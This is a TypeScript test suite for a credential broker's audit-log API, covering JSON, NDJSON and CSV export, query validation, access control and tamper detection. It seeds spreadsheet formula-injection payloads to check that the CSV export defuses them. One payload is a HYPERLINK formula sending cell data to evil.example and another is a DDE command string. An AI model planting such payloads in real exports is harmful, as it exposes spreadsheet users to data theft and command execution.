// GET /v1/audit/events (JSON, NDJSON, CSV) and /v1/audit/verify against the real app.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import Database from 'better-sqlite3';
import request from 'supertest';
import { signCheckpoint } from '../src/audit/checkpoints.js';
import { newAuditId } from '../src/audit/record.js';
import type { AuditEntry, AuditRecord, AuditStore } from '../src/audit/types.js';
import { AuditUnavailableError } from '../src/errors.js';
import { createApp } from '../src/http/app.js';
import { loadSigningKey } from '../src/keys/signing-key.js';
import { AUDIENCE, AUDITOR_TOKEN, startBrokerFixture, type BrokerFixture } from './helpers/broker-fixture.js';
import { localJwtPolicy } from './helpers/oidc.js';

const POLICIES = {
  'deploy.yaml': localJwtPolicy('https://deploy.example.com'),
  'deny.yaml': `issuer: local\neffect: deny\nclaims:\n  event_name: pull_request_target\n`,
};
const AUTH = `Bearer ${AUDITOR_TOKEN}`;
const BULK = 2500;

/** Values a spreadsheet would evaluate, and values that need RFC 4180 quoting. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tindent', '\rreturn', "=cmd|' /C calc'!A0"];
const QUOTING = ['a,b', 'say "hi"', 'two\r\nlines', 'lf\nonly', 'plain'];

let fx: BrokerFixture;
const secrets: string[] = [];
let brokerToken = '';

function mint(claims: Record<string, unknown> = {}, options?: Parameters<BrokerFixture['issuer']['mint']>[1]): Promise<string> {
  return fx.issuer
    .mint({ aud: AUDIENCE, sub: 'repo:acme/api:ref:refs/heads/main', repository: 'acme/api', ref: 'refs/heads/main', event_name: 'push', ...claims }, options)
    .then((token) => {
      secrets.push(token);
      return token;
    });
}

function entry(i: number, overrides: Partial<AuditEntry> = {}): AuditEntry {
  return {
    id: newAuditId(),
    time: new Date(Date.UTC(2026, 0, 1) + i * 1000).toISOString(),
    decision: i % 4 === 0 ? 'denied' : 'issued',
    error: i % 4 === 0 ? 'access_denied' : null,
    reason: i % 4 === 0 ? 'no_policy_matched: no policy matched' : null,
    request_id: newAuditId(),
    issuer: 'bulk',
    subject: `repo:acme/svc-${i % 7}:ref:refs/heads/main`,
    audience: ['https://a.example', 'https://b.example'],
    jti: `jti-${i}`,
    token_sha256: 'a'.repeat(64),
    claims: { repository: `acme/svc-${i % 7}`, run_number: i, ref_protected: i % 2 === 0, nested: { a: [1, 'x'] } },
    unverified: null,
    policy: 'bulk',
    policy_sha256: 'b'.repeat(64),
    provider: 'jwt',
    target: 'https://deploy.example.com',
    credential_id: `cred-${i}`,
    expires_at: new Date(Date.UTC(2026, 0, 1) + i * 1000 + 600_000).toISOString(),
    duration_seconds: 600,
    client_ip: '127.0.0.1',
    user_agent: 'bulk-loader/1.0',
    audit_matches: [],
    ...overrides,
  };
}

/** Every record, through the paged JSON API. */
async function allRecords(query: Record<string, string> = {}): Promise<AuditRecord[]> {
  const out: AuditRecord[] = [];
  let cursor: string | null = null;
  do {
    const res: request.Response = await request(fx.broker.app)
      .get('/v1/audit/events')
      .set('Authorization', AUTH)
      .query({ ...query, limit: '1000', ...(cursor ? { cursor } : {}) });
    assert.equal(res.status, 200, res.text);
    out.push(...(res.body.events as AuditRecord[]));
    cursor = res.body.next_cursor;
  } while (cursor);
  return out;
}

function exportAs(accept: string, query: Record<string, string> | string = {}): request.Test {
  return request(fx.broker.app).get('/v1/audit/events').set('Authorization', AUTH).set('Accept', accept).query(query);
}

/** A strict RFC 4180 parser: CRLF line ends, quotes only around whole cells, a final CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"') {
        if (text[i + 1] === '"') {
          cell += '"';
          i += 2;
          continue;
        }
        quoted = false;
        i += 1;
        assert.ok(i === text.length || text[i] === ',' || text[i] === '\r', `a closing quote ends the cell (at ${i})`);
        continue;
      }
      cell += c;
      i += 1;
      continue;
    }
    if (c === '"') {
      assert.equal(cell, '', `a quote opens a cell only at its start (at ${i})`);
      quoted = true;
      i += 1;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
      i += 1;
    } else if (c === '\r') {
      assert.equal(text[i + 1], '\n', `CR is followed by LF outside quotes (at ${i})`);
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 2;
    } else {
      assert.notEqual(c, '\n', `no bare LF outside quotes (at ${i})`);
      cell += c;
      i += 1;
    }
  }
  assert.equal(quoted, false, 'no unterminated quote');
  assert.ok(cell === '' && row.length === 0, 'the last line ends with CRLF');
  return rows;
}

const neutralised = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
const claimText = (value: unknown) => (value === undefined ? '' : typeof value === 'string' ? value : JSON.stringify(value));

/** What the CSV cell of `column` must hold for `record`, written independently of src/audit/export.ts. */
function expectedCell(record: AuditRecord, column: string): string {
  let raw: string;
  if (column === 'audience') raw = record.audience?.join(' ') ?? '';
  else if (column === 'audit_matches') raw = record.audit_matches.join(' ');
  else if (column === 'unverified.iss') raw = record.unverified?.iss ?? '';
  else if (column === 'unverified.sub') raw = record.unverified?.sub ?? '';
  else if (column === 'claims') raw = record.claims === null ? '' : JSON.stringify(record.claims);
  else if (column.startsWith('claim.')) raw = record.claims === null ? '' : claimText(record.claims[column.slice('claim.'.length)]);
  else {
    const value = (record as unknown as Record<string, unknown>)[column];
    assert.ok(value === null || ['string', 'number'].includes(typeof value), `column ${column} is a record field`);
    raw = value === null ? '' : String(value);
  }
  return neutralised(raw);
}

function assertCsvMatches(csv: string, records: AuditRecord[], extraClaimColumns: string[] = []): string[] {
  const rows = parseCsv(csv);
  const header = rows[0]!;
  assert.deepEqual(header.slice(0, 3), ['seq', 'id', 'time']);
  assert.equal(header.at(-1), 'claims');
  for (const column of ['claim.repository', 'claim.ref', 'claim.sha', 'claim.workflow', 'claim.job_workflow_ref', 'claim.environment', 'claim.actor', 'claim.event_name', 'claim.project_path', 'claim.ref_protected', 'claim.pipeline_source', ...extraClaimColumns]) {
    assert.ok(header.includes(column), `header has ${column}`);
  }
  assert.equal(new Set(header).size, header.length, 'no column twice');
  assert.equal(rows.length - 1, records.length, 'one row per record');
  records.forEach((record, r) => {
    const row = rows[r + 1]!;
    assert.equal(row.length, header.length, `row ${r + 1} has every column`);
    header.forEach((column, c) => assert.equal(row[c], expectedCell(record, column), `seq ${record.seq} column ${column}`));
    assert.deepEqual(row.at(-1) === '' ? null : JSON.parse(row.at(-1)!), record.claims, 'the claims column holds the exact claim set');
  });
  return header;
}

before(async () => {
  fx = await startBrokerFixture({ policies: POLICIES });
  const exchange = (token: string, policy = 'deploy') => request(fx.broker.app).post('/v1/exchange').set('Authorization', `Bearer ${token}`).send({ policy });
  const issued = await exchange(await mint({ sha: 'abc123', workflow: 'Deploy', environment: 'prod' }));
  assert.equal(issued.status, 200, issued.text);
  brokerToken = issued.body.credentials.access_token;
  secrets.push(brokerToken);
  assert.equal((await exchange(await mint({ repository: 'evil/api' }))).status, 403);
  assert.equal((await exchange(await mint({ event_name: 'pull_request_target' }))).status, 403);
  assert.equal((await exchange(await mint({}, { expiresInSeconds: 1, issuedAt: 1_000_000 }))).status, 401);
  assert.equal((await exchange(await mint(), 'no-such-policy')).status, 404);

  // Volume, and the values a CSV export must defuse, appended through the broker's own store.
  const appends: Promise<AuditRecord>[] = [];
  for (let i = 0; i < BULK; i += 1) appends.push(fx.broker.deps.audit.append(entry(i)));
  FORMULAS.forEach((text, i) =>
    appends.push(
      fx.broker.deps.audit.append(
        entry(BULK + i, { policy: text, subject: text, reason: text, user_agent: text, claims: { repository: text, actor: text, [text]: 'as a claim name' }, unverified: { iss: text, sub: text } }),
      ),
    ),
  );
  QUOTING.forEach((text, i) => appends.push(fx.broker.deps.audit.append(entry(BULK + 100 + i, { policy: text, reason: text, claims: { repository: text } }))));
  await Promise.all(appends);
});

after(async () => {
  await fx.close();
});

describe('NDJSON export', () => {
  test('streams every match exactly once across internal pages, each line the JSON API record', async () => {
    const expected = await allRecords();
    assert.ok(expected.length > BULK);
    const res = await exportAs('application/x-ndjson', { limit: '100' });
    assert.equal(res.status, 200);
    assert.equal(res.headers['content-type'], 'application/x-ndjson; charset=utf-8');
    assert.equal(res.headers['cache-control'], 'no-store');
    assert.match(String(res.headers.vary), /Accept/);
    assert.equal(res.headers['content-disposition'], undefined);
    assert.ok(res.text.endsWith('\n'));
    const lines = res.text.slice(0, -1).split('\n');
    assert.equal(lines.length, expected.length);
    assert.deepEqual(
      lines.map((line) => JSON.parse(line)),
      expected,
    );
    assert.equal(new Set(lines.map((line) => JSON.parse(line).id)).size, lines.length, 'no record twice');
  });

  test('filters apply, cursor is the starting point, limit is only the page size', async () => {
    const filtered = await allRecords({ decision: 'denied', 'claim.repository': 'acme/svc-3' });
    assert.ok(filtered.length > 50);
    const res = await exportAs('application/x-ndjson', { decision: 'denied', 'claim.repository': 'acme/svc-3', limit: '7' });
    assert.deepEqual(res.text.trim().split('\n').map((l) => JSON.parse(l)), filtered);

    const first = await request(fx.broker.app).get('/v1/audit/events').set('Authorization', AUTH).query({ limit: '1000' });
    const rest = await exportAs('application/x-ndjson', { cursor: first.body.next_cursor, limit: '1000' });
    const restRecords = rest.text.trim().split('\n').map((l) => JSON.parse(l) as AuditRecord);
    assert.equal(restRecords[0]!.seq, (first.body.events as AuditRecord[]).at(-1)!.seq + 1);
    assert.equal(first.body.events.length + restRecords.length, (await allRecords()).length);
  });

  test('HEAD answers the export headers without a body', async () => {
    const res = await request(fx.broker.app).head('/v1/audit/events').set('Authorization', AUTH).set('Accept', 'text/csv');
    assert.equal(res.status, 200);
    assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8; header=present');
    assert.equal(res.text, undefined);
  });

  test('records of real exchanges are exported with their claims and unverified iss/sub', async () => {
    const records = (await exportAs('application/x-ndjson', { issuer: 'local' })).text.trim().split('\n').map((l) => JSON.parse(l) as AuditRecord);
    const issued = records.find((r) => r.decision === 'issued');
    assert.equal(issued?.claims?.repository, 'acme/api');
    assert.equal(issued?.claims?.sha, 'abc123');
    assert.ok(records.some((r) => r.decision === 'denied' && r.claims?.repository === 'evil/api'));
    const invalid = (await exportAs('application/x-ndjson', { decision: 'denied' })).text.trim().split('\n').map((l) => JSON.parse(l) as AuditRecord).find((r) => r.error === 'invalid_token');
    assert.equal(invalid?.unverified?.iss, fx.issuer.url);
    assert.equal(invalid?.claims, null);
  });
});

describe('CSV export', () => {
  test('RFC 4180 that parses back to the same records, every match once, as a download', async () => {
    const expected = await allRecords();
    const res = await exportAs('text/csv', { limit: '100' });
    assert.equal(res.status, 200);
    assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8; header=present');
    assert.equal(res.headers['cache-control'], 'no-store');
    assert.equal(res.headers['x-content-type-options'], 'nosniff');
    assert.match(String(res.headers['content-disposition']), /^attachment; filename="audit-\d{8}T\d{6}Z\.csv"$/);
    const header = assertCsvMatches(res.text, expected);
    const rows = parseCsv(res.text);
    assert.equal(new Set(rows.slice(1).map((row) => row[header.indexOf('id')])).size, expected.length, 'no record twice');
  });

  test('real exchange records: claims flattened, audience joined, unverified split', async () => {
    const expected = await allRecords({ issuer: 'local' });
    const res = await exportAs('text/csv', { issuer: 'local' });
    const header = assertCsvMatches(res.text, expected);
    const rows = parseCsv(res.text).slice(1);
    const issued = rows.find((row) => row[header.indexOf('decision')] === 'issued')!;
    assert.equal(issued[header.indexOf('claim.repository')], 'acme/api');
    assert.equal(issued[header.indexOf('claim.sha')], 'abc123');
    assert.equal(issued[header.indexOf('claim.environment')], 'prod');
    assert.equal(issued[header.indexOf('audience')], AUDIENCE);
    const all = parseCsv((await exportAs('text/csv', { decision: 'denied' })).text);
    const invalid = all.find((row) => row[all[0]!.indexOf('error')] === 'invalid_token')!;
    assert.equal(invalid[all[0]!.indexOf('unverified.iss')], fx.issuer.url);
  });

  test('scalars use their canonical string form; claims named in filters get a column', async () => {
    const expected = await allRecords({ 'claim.run_number': '12' });
    assert.equal(expected.length, 1);
    const res = await exportAs('text/csv', { 'claim.run_number': '12', 'claim.ref_protected': 'true' });
    const header = assertCsvMatches(res.text, expected, ['claim.run_number']);
    const row = parseCsv(res.text)[1]!;
    assert.equal(row[header.indexOf('claim.run_number')], '12');
    assert.equal(row[header.indexOf('claim.ref_protected')], 'true');
    assert.equal(header.filter((h) => h === 'claim.ref_protected').length, 1, 'a default claim named in a filter is not repeated');
  });

  test('formula cells are neutralised with a leading quote, and quoting survives', async () => {
    const expected = await allRecords({ issuer: 'bulk', since: new Date(Date.UTC(2026, 0, 1) + BULK * 1000).toISOString() });
    assert.equal(expected.length, FORMULAS.length + QUOTING.length);
    const res = await exportAs('text/csv', { issuer: 'bulk', since: new Date(Date.UTC(2026, 0, 1) + BULK * 1000).toISOString() });
    const header = assertCsvMatches(res.text, expected);
    const rows = parseCsv(res.text);
    for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `no cell starts a formula: ${JSON.stringify(cell)}`);
    FORMULAS.forEach((text, i) => {
      const row = rows[i + 1]!;
      for (const column of ['policy', 'subject', 'reason', 'user_agent', 'claim.repository', 'claim.actor', 'unverified.iss', 'unverified.sub']) {
        assert.equal(row[header.indexOf(column)], `'${text}`, `${column} of ${JSON.stringify(text)}`);
      }
      assert.equal(JSON.parse(row.at(-1)!).repository, text, 'the claims JSON keeps the exact value');
    });
    QUOTING.forEach((text, i) => assert.equal(rows[FORMULAS.length + i + 1]![header.indexOf('policy')], text));
    // The raw text really quotes: the CRLF inside a cell is inside quotes.
    assert.ok(res.text.includes('"two\r\nlines"'));
    assert.ok(res.text.includes('"say ""hi"""'));
  });
});

describe('query validation', () => {
  test('every bad input is a 400 invalid_request naming the parameter, for every format', async () => {
    const manyClaims = Array.from({ length: 21 }, (_, i) => `claim.c${i}=x`).join('&');
    const cases: [query: string, names: RegExp][] = [
      ['limit=1&limit=2', /'limit'/],
      ['claim.repository=a&claim.repository=b', /'claim\.repository'/],
      ['claim.=x', /'claim\.'/],
      ['limit=', /'limit'/],
      ['limit=0', /'limit'/],
      ['limit=1001', /'limit'/],
      ['limit=99999999999999999999999999', /'limit'/],
      ['limit=1e3', /'limit'/],
      ['limit=-1', /'limit'/],
      ['limit=%2B5', /'limit'/],
      ['limit=%205', /'limit'/],
      ['limit=0010', /'limit'/],
      ['since=', /'since'/],
      ['until=', /'until'/],
      ['since=yesterday', /'since'/],
      ['until=2026-13-01T00:00:00Z', /'until'/],
      ['since=2026-02-30T00:00:00Z', /'since'/],
      ['since=2026-01-01', /'since'/],
      ['decision=', /'decision'/],
      ['decision=ISSUED', /'decision'/],
      ['policy=', /'policy'/],
      ['issuer=', /'issuer'/],
      ['subject=', /'subject'/],
      ['credential_id=', /'credential_id'/],
      ['cursor=', /'cursor'/],
      ['cursor=garbage!', /'cursor'/],
      [`cursor=${Buffer.from('-1').toString('base64url')}`, /'cursor'/],
      [`cursor=${Buffer.from('12abc').toString('base64url')}`, /'cursor'/],
      ['cursor=MTAw%3D', /'cursor'/],
      ['colour=blue', /'colour'/],
      ['__proto__=x', /'__proto__'/],
      ['constructor=x', /'constructor'/],
      ['Limit=5', /'Limit'/],
      [manyClaims, /claim/],
    ];
    for (const [query, names] of cases) {
      for (const accept of ['application/json', 'application/x-ndjson', 'text/csv']) {
        const res = await request(fx.broker.app).get(`/v1/audit/events?${query}`).set('Authorization', AUTH).set('Accept', accept);
        assert.equal(res.status, 400, `${query} (${accept}): ${res.text.slice(0, 200)}`);
        assert.equal(res.headers['content-type'], 'application/json; charset=utf-8');
        assert.equal(res.body.error, 'invalid_request');
        assert.match(res.body.error_description, names, query);
      }
    }
  });

  test('until before since is allowed and matches nothing; empty claim values are filters', async () => {
    const window = { since: '2026-06-01T00:00:00Z', until: '2026-01-01T00:00:00Z' };
    const json = await request(fx.broker.app).get('/v1/audit/events').set('Authorization', AUTH).query(window);
    assert.equal(json.status, 200);
    assert.deepEqual(json.body, { events: [], next_cursor: null });
    const ndjson = await exportAs('application/x-ndjson', window);
    assert.equal(ndjson.status, 200);
    assert.equal(ndjson.text, '');
    const csv = await exportAs('text/csv', window);
    assert.equal(csv.status, 200);
    assert.equal(parseCsv(csv.text).length, 1, 'a header row only');
    const empty = await request(fx.broker.app).get('/v1/audit/events?claim.head_ref=').set('Authorization', AUTH);
    assert.equal(empty.status, 200);
    assert.deepEqual(empty.body.events, []);
  });

  test('fuzzed query strings answer 200 or 400 invalid_request, never anything else', async () => {
    const names = ['since', 'until', 'decision', 'policy', 'limit', 'cursor', 'claim.', 'claim.repository', 'claim.__proto__', 'x', '', '%00', 'claim.a%26b'];
    const values = ['', '1', '0', '1000', '1001', 'issued', '2026-01-01T00:00:00Z', '2026-01-01T00:00:00.123456789+14:00', 'MTA', '%FF', '%', '%E2%80%AE', 'a'.repeat(3000), '[]', '{"a":1}'];
    let seed = 7;
    const pick = <T>(list: readonly T[]): T => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return list[seed % list.length]!;
    };
    for (let i = 0; i < 150; i += 1) {
      const parts = Array.from({ length: 1 + (i % 4) }, () => `${pick(names)}=${pick(values)}`);
      const query = parts.join(i % 5 === 0 ? '&&' : '&');
      const res = await request(fx.broker.app).get(`/v1/audit/events?${query}`).set('Authorization', AUTH).set('Accept', pick(['application/json', 'text/csv', 'application/x-ndjson']));
      assert.ok(res.status === 200 || res.status === 400, `${query}: ${res.status} ${res.text.slice(0, 200)}`);
      if (res.status === 400) assert.equal(res.body.error, 'invalid_request');
    }
  });
});

describe('content negotiation', () => {
  test('406 not_acceptable for an Accept the route cannot answer; q-values and wildcards are honoured', async () => {
    for (const accept of ['text/html', 'application/xml', 'text/csv;q=0, application/json;q=0', 'image/*']) {
      const res = await exportAs(accept);
      assert.equal(res.status, 406, accept);
      assert.equal(res.body.error, 'not_acceptable');
      assert.equal(res.body.request_id, res.headers['x-request-id']);
      assert.equal(res.headers['cache-control'], 'no-store');
    }
    const expectType = async (accept: string, type: string) => assert.equal(String((await exportAs(accept, { limit: '1' })).headers['content-type']).split(';')[0], type, accept);
    await expectType('*/*', 'application/json');
    await expectType('text/*', 'text/csv');
    await expectType('application/json;q=0.5, text/csv', 'text/csv');
    await expectType('text/html, application/x-ndjson;q=0.1', 'application/x-ndjson');
    const none = await request(fx.broker.app).get('/v1/audit/events').set('Authorization', AUTH).query({ limit: '1' });
    assert.equal(none.headers['content-type'], 'application/json; charset=utf-8');
    assert.equal(none.body.events.length, 1);
  });

  test('authentication comes first: no token with an unacceptable Accept is still a 401', async () => {
    const res = await request(fx.broker.app).get('/v1/audit/events').set('Accept', 'text/html');
    assert.equal(res.status, 401);
    assert.equal(res.body.error, 'invalid_token');
  });
});

describe('who may read the audit log', () => {
  test('a valid CI token and a broker-signed token are refused on both audit routes, in every format', async () => {
    const ciToken = await mint();
    for (const token of [ciToken, brokerToken]) {
      for (const route of ['/v1/audit/events', '/v1/audit/verify']) {
        for (const accept of ['application/json', 'text/csv', 'application/x-ndjson']) {
          const res = await request(fx.broker.app).get(route).set('Authorization', `Bearer ${token}`).set('Accept', accept);
          assert.equal(res.status, 401, `${route} ${accept}`);
          assert.equal(res.body.error, 'invalid_token');
          assert.match(String(res.headers['www-authenticate']), /^Bearer error="invalid_token"/);
          assert.equal(res.body.events, undefined);
          assert.equal(res.body.ok, undefined);
        }
      }
    }
  });

  test('queries and exports are logged with the auditor name, filters and count, never a token', async () => {
    await exportAs('text/csv', { policy: 'deploy' });
    const lines = fx.logLines();
    const exportLine = lines.map((l) => JSON.parse(l) as Record<string, unknown>).find((l) => l.msg === 'audit export' && (l.filters as { policy?: string }).policy === 'deploy');
    assert.ok(exportLine, 'an audit export line');
    assert.equal(exportLine.auditor, 'secops');
    assert.equal(exportLine.format, 'csv');
    assert.equal(exportLine.count, (await allRecords({ policy: 'deploy' })).length);
    assert.equal(exportLine.outcome, 'complete');
    const queryLine = lines.map((l) => JSON.parse(l) as Record<string, unknown>).find((l) => l.msg === 'audit query');
    assert.equal(queryLine?.auditor, 'secops');
    assert.equal(typeof queryLine?.count, 'number');
    for (const line of lines) {
      assert.ok(!line.includes(AUDITOR_TOKEN), 'the auditor token is never logged');
      for (const secret of secrets) assert.ok(!line.includes(secret), 'no token is logged');
    }
  });
});

describe('store failures', () => {
  /** The fixture's app, but over a store whose query() fails from the `failAt`-th call on. */
  function appWithFailingStore(failAt: number): { app: ReturnType<typeof createApp>; calls: () => number } {
    const real = fx.broker.deps.audit;
    let calls = 0;
    const store: AuditStore = {
      ...real,
      query: async (query) => {
        calls += 1;
        if (calls >= failAt) throw new AuditUnavailableError('The audit log cannot be read.', { reason: 'audit_read_failed', cause: new Error('disk on fire') });
        return real.query(query);
      },
    };
    return { app: createApp({ ...fx.broker.deps, audit: store }), calls: () => calls };
  }

  test('a store that fails before anything is sent answers 503 audit_unavailable, and the attempt is logged', async () => {
    const logged = fx.logLines().length;
    const { app } = appWithFailingStore(1);
    for (const accept of ['application/json', 'text/csv', 'application/x-ndjson']) {
      const res = await request(app).get('/v1/audit/events').set('Authorization', AUTH).set('Accept', accept);
      assert.equal(res.status, 503, accept);
      assert.equal(res.body.error, 'audit_unavailable');
      assert.equal(res.headers['content-type'], 'application/json; charset=utf-8');
    }
    const lines = fx.logLines().slice(logged).map((l) => JSON.parse(l) as Record<string, unknown>);
    assert.deepEqual(
      lines.filter((l) => l.msg === 'audit query failed' || l.msg === 'audit export failed').map((l) => [l.msg, l.auditor]),
      [
        ['audit query failed', 'secops'],
        ['audit export failed', 'secops'],
        ['audit export failed', 'secops'],
      ],
    );
  });

  test('a store that fails mid-export cuts the connection: the response never looks complete', async () => {
    const logged = fx.logLines().length;
    for (const accept of ['application/x-ndjson', 'text/csv']) {
      const { app, calls } = appWithFailingStore(4);
      const server = http.createServer(app);
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      try {
        const { port } = server.address() as AddressInfo;
        const outcome = await new Promise<{ status: number; body: string; complete: boolean; ended: boolean; error: string | null }>((resolve, reject) => {
          const req = http.get({ host: '127.0.0.1', port, path: '/v1/audit/events?limit=100', headers: { authorization: AUTH, accept } }, (res) => {
            let body = '';
            let ended = false;
            let error: string | null = null;
            res.setEncoding('utf8');
            res.on('data', (chunk: string) => (body += chunk));
            res.on('end', () => (ended = true));
            res.on('error', (err) => (error = err.message));
            res.on('close', () => resolve({ status: res.statusCode ?? 0, body, complete: res.complete, ended, error }));
          });
          req.on('error', reject);
        });
        assert.equal(outcome.status, 200, 'the export had started');
        assert.equal(outcome.complete, false, `${accept}: the client can tell the response is incomplete`);
        assert.equal(outcome.ended, false);
        assert.ok(outcome.body.length > 0, 'some records arrived first');
        const lines = outcome.body.split('\n').filter(Boolean);
        assert.ok(lines.length <= 300 + 1, `at most the pages read before the failure arrived (${lines.length})`);
        assert.equal(calls(), 4);
      } finally {
        await new Promise<void>((resolve) => server.close(() => resolve()));
      }
    }
    const failed = fx.logLines().slice(logged).map((l) => JSON.parse(l) as Record<string, unknown>).filter((l) => l.msg === 'audit export failed');
    assert.equal(failed.length, 2);
    assert.equal(failed[0]!.auditor, 'secops');
    assert.equal(failed[0]!.outcome, 'store_failed');
    assert.equal(typeof failed[0]!.count, 'number');
  });
});

describe('GET /v1/audit/verify', () => {
  test('trusted_head: the newest checkpoint JWS is answered to keep, a rolled-back log is rolled_back, a bad one is a 400', async () => {
    const key = await loadSigningKey(path.join(fx.dir, 'data', 'signing-key.jwk'));
    const head = await fx.broker.deps.audit.head();
    const stored = await signCheckpoint(key, head, 'periodic', new Date());
    await fx.broker.deps.audit.saveCheckpoint(stored);
    const verify = (query: string) => request(fx.broker.app).get(`/v1/audit/verify${query}`).set('Authorization', AUTH);

    const ok = await verify(`?trusted_head=${stored.jws}`);
    assert.equal(ok.status, 200);
    assert.equal(ok.body.ok, true);
    assert.equal(ok.body.latest_checkpoint.jws, stored.jws);
    // A genuine checkpoint this store does not hold: the log was rolled back behind it.
    const gone = await signCheckpoint(key, { seq: head.seq + 5, hash: 'e'.repeat(64) }, 'periodic', new Date());
    const rolled = await verify(`?trusted_head=${gone.jws}`);
    assert.equal(rolled.status, 200);
    assert.deepEqual({ ok: rolled.body.ok, broken: rolled.body.broken }, { ok: false, broken: { seq: head.seq + 5, id: null, problem: 'rolled_back' } });

    for (const query of ['?trusted_head=not-a-jws', `?trusted_head=${stored.jws.slice(0, -4)}AAAA`, `?trusted_head=${stored.jws}&trusted_head=${stored.jws}`, '?since=2026-01-01']) {
      const bad = await verify(query);
      assert.equal(bad.status, 400, query);
      assert.equal(bad.body.error, 'invalid_request', query);
    }
  });

  test('answers the whole-log result with checkpoints, then the first break after tampering', async () => {
    const ok = await request(fx.broker.app).get('/v1/audit/verify').set('Authorization', AUTH);
    assert.equal(ok.status, 200);
    const head = (await allRecords()).at(-1)!;
    assert.deepEqual(Object.keys(ok.body).sort(), ['checkpoints', 'events', 'first_seq', 'head', 'last_seq', 'latest_checkpoint', 'ok']);
    assert.equal(ok.body.ok, true);
    assert.equal(ok.body.events, head.seq);
    assert.equal(ok.body.last_seq, head.seq);
    assert.equal(ok.body.first_seq, 1);
    assert.equal(ok.body.head, head.hash);

    const db = new Database(path.join(fx.dir, 'data', 'audit.db'));
    try {
      db.prepare('UPDATE audit_events SET reason = ? WHERE seq = 42').run('nothing to see here');
    } finally {
      db.close();
    }
    const broken = await request(fx.broker.app).get('/v1/audit/verify').set('Authorization', AUTH);
    assert.equal(broken.status, 200);
    assert.equal(broken.body.ok, false);
    assert.equal(broken.body.events, 41);
    assert.equal(broken.body.broken.seq, 42);
    assert.equal(broken.body.broken.problem, 'hash_mismatch');
  });
});
